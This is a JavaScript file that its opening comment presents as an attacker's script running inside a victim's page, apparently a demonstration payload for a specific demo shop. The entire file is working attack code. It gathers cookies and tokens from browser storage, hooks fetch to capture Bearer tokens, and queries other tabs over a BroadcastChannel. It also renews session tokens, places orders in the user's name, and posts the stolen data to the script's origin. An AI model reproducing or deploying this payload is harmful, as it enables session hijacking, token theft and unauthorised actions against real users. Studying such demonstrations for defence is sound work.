// What an attacker's script does in somebody else's page: takes whatever is there, acts, and sends home what it took.
(async () => {
  const home = new URL(document.currentScript.src).origin
  const taken = { cookie: document.cookie, access: [], refresh: [] }
  const keep = (list, value) => typeof value === "string" && !list.includes(value) && list.push(value)

  // Wherever an object holds tokens, under the names that libraries give them.
  const search = (value) => {
    if (!value || typeof value !== "object") return
    keep(taken.access, value.token ?? value.access_token)
    keep(taken.refresh, value.refresh ?? value.refresh_token)
    Object.values(value).forEach(search)
  }
  const read = (text) => {
    try {
      search(JSON.parse(text))
    } catch {}
  }

  for (const storage of [localStorage, sessionStorage]) Object.values({ ...storage }).forEach(read)

  // Whatever the page sends and is answered from now on.
  const real = window.fetch
  window.fetch = async (...given) => {
    const request = new Request(...given)
    const [, token] = /^Bearer (.+)$/.exec(request.headers.get("authorization") ?? "") ?? []
    keep(taken.access, token)
    const answer = await real(request)
    answer.clone().text().then(read, () => {})
    return answer
  }

  // Tabs tell each other what they hold; so one asks.
  const channel = new BroadcastChannel(`propylon ${location.origin}`)
  channel.onmessage = ({ data }) => search(data)
  channel.postMessage({ ask: true })
  await new Promise((done) => setTimeout(done, 200))

  // The page's own requests, in its name.
  document.getElementById("order").click()
  for (let left = 100; left && document.title !== "ordered"; left--) await new Promise((done) => setTimeout(done, 50))

  // Cookies that no script can read go along all the same, and may be changed for a token that it can.
  const renewed = await real("/v1/session/tokens", { method: "POST" }).catch(() => null)
  if (renewed?.ok) read(await renewed.text())

  for (const path of ["/orders", "/naive/orders"]) {
    const headers = taken.access.length ? { authorization: `Bearer ${taken.access.at(-1)}` } : {}
    await real(`${path}?by=script.acts`, { method: "POST", headers }).catch(() => null)
  }
  await real(`${home}/taken`, { method: "POST", mode: "no-cors", body: JSON.stringify(taken) })
  document.title = "robbed"
})()
